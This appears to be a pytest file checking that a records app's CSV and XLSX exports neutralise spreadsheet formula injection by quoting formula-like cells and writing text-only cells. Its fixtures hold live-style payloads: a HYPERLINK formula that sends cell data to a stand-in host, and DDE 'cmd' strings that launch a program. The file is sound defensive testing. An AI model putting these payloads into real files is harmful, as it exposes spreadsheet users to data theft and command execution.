"""Issue 11, finding 6: no export writes a formula a spreadsheet would run.

One guard (tayang.records.cells) for the DIP export and the register export: formula-like text
gets a leading quote in CSV and is written as a string cell in XLSX; a lone "-" stays "-".
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from tayang.dip import tabular
from tayang.dip.models import Entry
from tayang.records.cells import formula_like, from_spreadsheet_safe, spreadsheet_safe
from tayang.records.register import RegisterRow, to_csv

from .dip_world import dip_organization, signed_in_ppid

HOSTILE = {
    "summary": '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "holder": "+cmd|' /C calc'!A0",
    "responsible": "@SUM(1+1)*cmd|' /C calc'!A0",
    "made_where": "-2+3+cmd|' /C calc'!A0",
    "retention": "\t=1+1",
    "made_when": "\r=1+1",
}


@pytest.mark.parametrize(("value", "runs"), [
    ("=1+1", True), ("+1", True), ("@SUM(A1)", True), ("\t=1", True), ("\r=1", True),
    ("\n=1", True), ("-2+3", True), ("-cmd|x", True), ("- Sekretariat", True), ("＝1+1", True),
    ("-", False), ("-5", False), ("-1,5", False), ("-0.25", False), ("", False),
    ("Sekretariat", False), ("2026", False), ("a=b", False),
])
def test_what_a_spreadsheet_could_run(value, runs):
    assert formula_like(value) is runs
    assert from_spreadsheet_safe(spreadsheet_safe(value)) == value


def test_a_lone_dash_in_the_register_stays_a_dash():
    row = RegisterRow("0001/2026", "-", "1 Januari 2026", "-", "=HYPERLINK(1)", "SOP", "Draf",
                      "-", "-")
    table = list(csv.reader(io.StringIO(to_csv([row]).decode("utf-8-sig")), delimiter=";"))
    assert table[1] == ["0001/2026", "-", "1 Januari 2026", "-", "'=HYPERLINK(1)", "SOP", "Draf",
                        "-", "-"]  # today: "'-" in every empty column


@pytest.fixture
def org(db):
    org = dip_organization()
    Entry.objects.create(organization=org, number="DIP-01", softcopy=True, hardcopy=False,
                         classification="berkala", updated_on=date(2026, 1, 5), **HOSTILE)
    Entry.objects.create(organization=org, number="-", summary="-5", holder="-", softcopy=True,
                         responsible="PPID", made_when="2026", retention="-",
                         classification="berkala", updated_on=date(2026, 1, 5))
    return org


@pytest.fixture
def ppid(org, client):
    return signed_in_ppid(org, client)


def test_the_dip_csv_export_quotes_formulas_and_keeps_dashes(org, ppid, client):
    content = client.get("/kerja/disperindag/dip/ekspor.csv").content.decode("utf-8-sig")
    rows = {row[0]: row for row in csv.reader(io.StringIO(content), delimiter=";")}
    hostile = rows["DIP-01"]
    assert hostile[1] == "'" + HOSTILE["summary"]  # today: the formula as it was typed
    assert hostile[2] == "'" + HOSTILE["holder"]
    assert hostile[3] == "'" + HOSTILE["responsible"]
    assert hostile[4] == "'" + HOSTILE["made_when"]
    assert hostile[5] == "'" + HOSTILE["made_where"]
    assert hostile[7] == "'" + HOSTILE["retention"]
    assert rows["-"][:3] == ["-", "-5", "-"]


def test_the_dip_xlsx_export_writes_text_cells_only(org, ppid, client):
    content = client.get("/kerja/disperindag/dip/ekspor.xlsx").content
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type == "s" for cell in cells)  # today: "f" for formulas
    values = {cell.value for cell in cells}
    # Exactly as typed (XML reads a carriage return as a line feed): a string never runs.
    assert {value.replace("\r", "\n") for value in HOSTILE.values()} <= values


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_imported_again_changes_nothing(org, ppid, client, fmt):
    # As the entry form saves them: without leading or trailing white space (the import
    # normalises white space, as it always did).
    Entry.objects.filter(number="DIP-01").update(retention="=1+1", made_when="2026")
    exported = client.get(f"/kerja/disperindag/dip/ekspor.{fmt}").content
    table = tabular.read_table(f"dip.{fmt}", exported)
    result = tabular.import_entries(org, None, table, date(2026, 11, 24))
    assert (result.ok, result.created, result.updated) == (True, 0, 0), result.refused
    assert Entry.objects.get(number="DIP-01").summary == HOSTILE["summary"]
